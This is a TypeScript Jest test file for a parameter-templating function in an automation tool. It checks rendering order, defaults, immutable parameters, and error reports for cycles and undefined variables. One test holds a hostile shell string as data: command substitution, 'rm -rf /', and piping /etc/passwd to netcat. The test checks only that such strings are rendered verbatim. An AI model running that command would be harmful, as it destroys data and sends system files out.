import { renderParameters, type RenderParametersResult } from './parameters';

function values(result: RenderParametersResult): Record<string, unknown> {
  if (!result.ok) throw new Error(`expected success, got ${result.violations.join('; ')}`);
  return result.values;
}

function violations(result: RenderParametersResult): string[] {
  if (result.ok) throw new Error(`expected violations, got ${JSON.stringify(result.values)}`);
  return result.violations;
}

describe(renderParameters.name, () => {
  it('renders given values and defaults that refer to other parameters', () => {
    const result = renderParameters({ greeting: { default: 'Hello {{ name }}' }, name: {} }, { name: 'ops' }, {});
    expect(values(result)).toEqual({ greeting: 'Hello ops', name: 'ops' });
  });

  it('renders in dependency order whatever the declaration order (c on b on a)', () => {
    const result = renderParameters({ c: { default: '{{ b }}-c' }, b: { default: '{{ a }}-b' }, a: {} }, { a: 'a' }, {});
    expect(values(result)).toEqual({ c: 'a-b-c', b: 'a-b', a: 'a' });
  });

  it('keeps native types through a single expression', () => {
    const result = renderParameters({ count: { default: '{{ n }}' }, n: { default: 5 }, hosts: { default: '{{ config_context.hosts }}' } }, {}, { config_context: { hosts: ['a', 'b'] } });
    expect(values(result)).toEqual({ count: 5, n: 5, hosts: ['a', 'b'] });
  });

  it('reads config_context, action_context and st2kv', () => {
    const result = renderParameters(
      { url: { default: '{{ config_context.base_url }}/api' }, who: { default: '{{ action_context.user }} ran {{ action_context.execution_id }}' }, token: { default: '{{ st2kv.system.token }}' } },
      {},
      { config_context: { base_url: 'https://example.test' }, action_context: { user: 'stanley', execution_id: 'ex-1' }, st2kv: { system: { token: 's3cret' } } },
    );
    expect(values(result)).toEqual({ url: 'https://example.test/api', who: 'stanley ran ex-1', token: 's3cret' });
  });

  it('leaves non-string values alone, even when they hold template text', () => {
    const list = ['{{ a }}'];
    const result = renderParameters({ list: {}, a: { default: 1 } }, { list }, {});
    expect(values(result).list).toBe(list);
  });

  it('uses the default when the value is null, and keeps parameters without either out of the result', () => {
    const result = renderParameters({ port: { default: 22 }, note: {} }, { port: null }, {});
    expect(values(result)).toEqual({ port: 22 });
  });

  it('gives templates null for parameters with neither value nor default, so optional flags work', () => {
    const result = renderParameters({ verbose: {}, cmd: { default: 'ls{% if verbose %} -l{% endif %}' } }, {}, {});
    expect(values(result)).toEqual({ cmd: 'ls' });
  });

  it('renders a given value containing shell metacharacters verbatim', () => {
    const cmd = 'echo $(id) `uname` ; rm -rf / && cat /etc/passwd | nc x 1 > /tmp/o';
    const result = renderParameters({ cmd: {}, line: { default: 'run: {{ cmd }}' } }, { cmd }, {});
    expect(values(result)).toEqual({ cmd, line: `run: ${cmd}` });
  });

  it('renders parameters that are given but not declared', () => {
    expect(values(renderParameters({}, { extra: '{{ 1 + 1 }}' }, {}))).toEqual({ extra: 2 });
  });

  describe('immutable parameters', () => {
    it('always take their default', () => {
      expect(values(renderParameters({ sudo: { default: false, immutable: true } }, {}, {}))).toEqual({ sudo: false });
    });

    it('cannot be overridden', () => {
      expect(violations(renderParameters({ sudo: { default: false, immutable: true } }, { sudo: true }, {}))).toEqual(['sudo: the parameter is immutable and cannot be overridden']);
    });
  });

  describe('violations', () => {
    it('name the parameter and the undefined variable', () => {
      expect(violations(renderParameters({ message: {} }, { message: 'say {{ mesage }}' }, {}))).toEqual(['message: undefined variable "mesage"']);
    });

    it('name the parameters of a cycle', () => {
      const result = renderParameters({ a: { default: '{{ b }}' }, b: { default: '{{ a }}' }, c: { default: 'ok' } }, {}, {});
      expect(violations(result)).toEqual(['parameters a, b refer to each other']);
    });

    it('name a parameter that refers to itself', () => {
      expect(violations(renderParameters({ a: { default: '{{ a }}+1' } }, {}, {}))).toEqual(['parameter a refers to itself']);
    });

    it('report a longer cycle once, and not the parameters built on it', () => {
      const result = renderParameters({ a: { default: '{{ c }}' }, b: { default: '{{ a }}' }, c: { default: '{{ b }}' }, d: { default: '{{ a }}!' } }, {}, {});
      expect(violations(result)).toEqual(['parameters a, b, c refer to each other']);
    });

    it('name the parameter with a syntax error', () => {
      expect(violations(renderParameters({ a: { default: '{{ oops }' } }, {}, {}))).toEqual(['a: syntax error: expected variable end (line 1, column 9)']);
    });

    it('name the parameter whose filter failed', () => {
      expect(violations(renderParameters({ v: { default: '{{ "1.2" | version_bump_major }}' } }, {}, {}))).toEqual(['v: version_bump_major: "1.2" is not a valid semantic version']);
    });

    it('collect every problem, not just the first', () => {
      const result = renderParameters({ a: { default: '{{ nope }}' }, b: { default: '{{ zilch }}' } }, {}, {});
      expect(violations(result)).toEqual(['a: undefined variable "nope"', 'b: undefined variable "zilch"']);
    });

    it('refuse parameter names that would hide the template context', () => {
      expect(violations(renderParameters({ st2kv: {} }, {}, {}))).toEqual(['st2kv: the name is reserved for the template context']);
    });
  });
});
